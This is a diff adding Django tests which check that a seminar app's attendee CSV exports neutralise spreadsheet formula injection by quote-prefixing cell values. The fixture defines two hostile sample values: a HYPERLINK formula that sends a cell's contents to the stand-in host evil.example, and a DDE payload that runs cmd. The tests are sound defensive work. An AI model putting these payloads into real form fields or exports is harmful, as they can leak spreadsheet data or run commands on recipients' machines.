@@ -353,3 +353,43 @@ def test_purge_leaves_no_name_in_the_admin_log(admin_user):
         assert "Quill" not in text
         assert "Zo\\u00eb" not in text
     assert about_the_seminar.get().object_repr == str(seminar)
+
+
+FORMULA_NAME = '=HYPERLINK("https://evil.example/?x="&B2,"x")'
+FORMULA_NEEDS = "@cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def seminar_with_formulas():
+    seminar = make_seminar()
+    services.sign_up(
+        seminar,
+        **sign_up_data(
+            name=FORMULA_NAME, access_needs_other=FORMULA_NEEDS, phone="+44 1234 567890"
+        ),
+    )
+    return seminar
+
+
+def test_attendee_csv_writes_formulas_as_text(facilitator_client, seminar_with_formulas):
+    url = reverse("admin:seminars_seminar_attendees_csv", args=[seminar_with_formulas.pk])
+    [row] = csv.DictReader(io.StringIO(facilitator_client.get(url).content.decode()))
+    assert row["Name"] == "'" + FORMULA_NAME
+    assert row["More about needs"] == "'" + FORMULA_NEEDS
+    assert row["Phone"] == "'+44 1234 567890"
+    assert row["Email"] == "ann@example.org"
+
+
+def test_admin_export_of_sign_ups_writes_formulas_as_text(
+    facilitator_client, seminar_with_formulas
+):
+    url = reverse("admin:seminars_registration_export")
+    fields = ["seminar", "name", "email", "phone", "needs_other"]
+    response = facilitator_client.post(
+        url, {"format": "0", **{f"registrationresource_{name}": "on" for name in fields}}
+    )
+    assert response["Content-Type"].startswith("text/csv")
+    [row] = csv.DictReader(io.StringIO(response.content.decode().lstrip("\ufeff")))
+    assert row["Name"] == "'" + FORMULA_NAME
+    assert row["More about needs"] == "'" + FORMULA_NEEDS
+    assert row["Email"] == "ann@example.org"
